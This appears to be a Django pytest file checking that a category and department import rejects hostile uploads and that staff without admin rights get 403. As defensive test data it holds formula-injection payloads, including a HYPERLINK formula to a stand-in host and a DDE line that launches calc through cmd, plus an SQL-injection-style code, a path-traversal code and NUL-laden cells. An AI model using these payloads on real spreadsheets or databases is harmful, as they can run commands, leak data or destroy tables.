"""Attacks on the import of categories and departments: formula injection, NUL and control
characters, oversized files and cells, a disguised file, staff without the admin's rights."""
from __future__ import annotations

import io

import pytest
from django.test import Client

from accounts.models import Department, Role, User
from incidents.models import Category
from incidents.reference_file import MAX_ROWS, ReferenceRejected, import_reference

pytestmark = pytest.mark.django_db

HEADER = "类型,编码,中文名称,英文名称,上级编码,部件或事件,启用\n"


@pytest.fixture
def root(world):
    return User.objects.create_superuser("attackroot", "attackroot@example.cn", "a-long-admin-password", role=Role.GIS_ADMIN)


def _refused(root, body: bytes, filename: str = "ref.csv"):
    before = (Department.objects.count(), Category.objects.count())
    with pytest.raises(ReferenceRejected) as caught:
        import_reference(actor=root, filename=filename, content=body)
    assert (Department.objects.count(), Category.objects.count()) == before
    return caught.value.plan.errors


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?x","点击")', "+1+2", "-2+3", "@SUM(A1)", "＝1+1"])
def test_a_name_a_spreadsheet_would_run_as_a_formula_is_refused(root, name):
    body = (HEADER + f'部门,GY,"{name.replace(chr(34), chr(34) * 2)}",Landscaping,,,\n').encode()
    [error] = _refused(root, body)
    assert (error.row, error.column) == (2, "中文名称") and "公式" in error.reason


def test_an_english_name_that_is_a_formula_is_refused_too(root):
    [error] = _refused(root, (HEADER + "部门,GY,园林绿化,=cmd|' /C calc'!A0,,,\n").encode())
    assert error.column == "英文名称"


def test_a_csv_with_a_nul_byte_is_refused_whole(root):
    # A NUL never occurs in a text file: the shared reader (gridgov.spreadsheet) refuses the file.
    [error] = _refused(root, HEADER.encode() + '部门,GY,"园林\x00绿化",Landscaping,,,\n'.encode())
    assert error.row is None


@pytest.mark.parametrize("cell", ["园林\x1b[31m", "line\nbreak", "tab\there"])
def test_control_characters_are_refused_with_the_cell_named(root, cell):
    body = HEADER.encode() + '部门,GY,"{}",Landscaping,,,\n'.format(cell).encode()
    errors = _refused(root, body)
    assert any(e.row == 2 and e.column == "中文名称" and "NUL" in e.reason for e in errors)


def test_a_nul_in_an_xlsx_cell_is_refused(root):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(HEADER.strip().split(","))
    sheet.append(["部门", "GY", "园林绿化", "Land_x0000_scaping", None, None, None])  # openpyxl's escape of a NUL
    out = io.BytesIO()
    book.save(out)
    errors = _refused(root, out.getvalue(), "ref.xlsx")
    assert any(e.column == "英文名称" for e in errors)


def test_too_many_rows_and_too_long_names_are_refused(root):
    rows = "".join(f"部门,D{n},部门{n},Dept {n},,,\n" for n in range(MAX_ROWS + 1))
    [error] = _refused(root, (HEADER + rows).encode())
    assert error.row is None and str(MAX_ROWS) in error.reason
    errors = _refused(root, (HEADER + f"大类,C95,{'长' * 61},Long,,事件,\n").encode())
    assert errors[0].column == "中文名称"


def test_an_old_excel_or_a_disguised_file_is_refused_whole(root):
    [error] = _refused(root, b"\xd0\xcf\x11\xe0" + b"\x00" * 100, "ref.xls")
    assert error.row is None and ".xlsx" in error.reason
    [error] = _refused(root, b"not a workbook", "ref.xlsx")
    assert error.row is None


def test_codes_with_sql_or_path_characters_are_refused(root):
    errors = _refused(root, (HEADER + "部门,GY'; DROP TABLE x;--,园林,Land,,,\n小类,../C01,x,x,C01,,\n").encode())
    assert {(e.row, e.column) for e in errors} >= {(2, "编码"), (3, "编码")}


def test_staff_without_the_admins_rights_get_no_page_and_anonymous_the_login(world):
    staff = world.dispatcher
    staff.is_staff = True
    staff.save(update_fields=["is_staff"])
    client = Client()
    client.force_login(staff)
    assert client.get("/admin/incidents/category/import/").status_code == 403
    assert client.get("/admin/incidents/category/reference-template.xlsx").status_code == 403
    upload = io.BytesIO((HEADER + "部门,GY,园林绿化,Landscaping,,,\n").encode())
    upload.name = "ref.csv"
    assert client.post("/admin/incidents/category/import/", {"file": upload, "dry_run": ""}).status_code == 403
    assert not Department.objects.filter(code="GY").exists()
    anonymous = Client().get("/admin/incidents/category/import/")
    assert anonymous.status_code == 302 and "/admin/login/" in anonymous["Location"]
